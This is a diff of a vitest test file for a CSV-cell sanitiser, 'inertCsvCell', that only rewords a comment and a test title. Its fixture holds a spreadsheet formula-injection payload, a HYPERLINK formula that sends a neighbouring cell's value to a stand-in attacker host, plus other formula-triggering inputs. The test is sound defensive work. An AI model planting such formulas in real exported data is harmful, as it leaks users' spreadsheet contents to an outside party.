@@ -2,10 +2,10 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { inertCsvCell } from '../../../server/http/csvCell.ts';
 
-/** The ticket subject of issue 15 point 2: a live formula once papaparse had escaped it. */
+/** A ticket subject that stayed a live formula once papaparse had escaped it. */
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")&\n""';
 
-describe('inertCsvCell (issue 15 point 2: CSV cells stay inert)', () => {
+describe('inertCsvCell: CSV cells stay inert', () => {
   it.each(['=1+2', '+1', '-2+3', '@SUM(A1)', '\t=1', '\rx', '\tplain', '\rplain'])(
     'prefixes %j with a single quote',
     (value) => {
